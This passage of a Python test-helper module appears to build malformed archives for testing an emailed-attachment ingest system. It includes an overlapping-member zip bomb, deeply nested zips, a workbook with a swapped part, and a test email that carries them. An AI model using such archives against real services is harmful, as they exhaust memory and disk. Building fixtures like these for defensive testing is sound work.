    return {"name": name, "data": deflated(data), "crc": zlib.crc32(data), "full": len(data)}


def _with_stream(good: bytes, stream: bytes, part: str = "sheet3") -> bytes:
    """Return a workbook one part of which is a stream made before."""
    entries = [_entry(name, data) for name, data in members(good).items() if name != path(part)]
    return raw_zip([*entries, {"name": path(part), "data": stream, "full": 1000}])


def _overlapping() -> bytes:
    """Return an archive of 1,000 members that are all the same bytes."""
    data = deflated(bytes(8_000_000))
    return raw_zip([{"name": "0", "data": data}, *({"name": str(n), "packed": len(data), "where": 0} for n in range(1, 1000))])


def _nest(depth: int) -> bytes:
    content = b"x"
    for n in range(depth):
        content = zipped({f"{n}.zip": content})
    return content


def _mail(text: str, attached: dict[str, bytes]) -> EmailMessage:
    mail = EmailMessage()
    mail["From"], mail["To"] = "Sam <sam@school.example>", "audits@northmoor.example"
    mail["Subject"], mail["Date"] = "Our return", "Mon, 07 Sep 2026 09:00:00 +0100"
    mail.set_content(text)
    for name, content in attached.items():
        mail.add_attachment(content, maintype="application", subtype="octet-stream", filename=name.replace("\n", ""))
    return mail
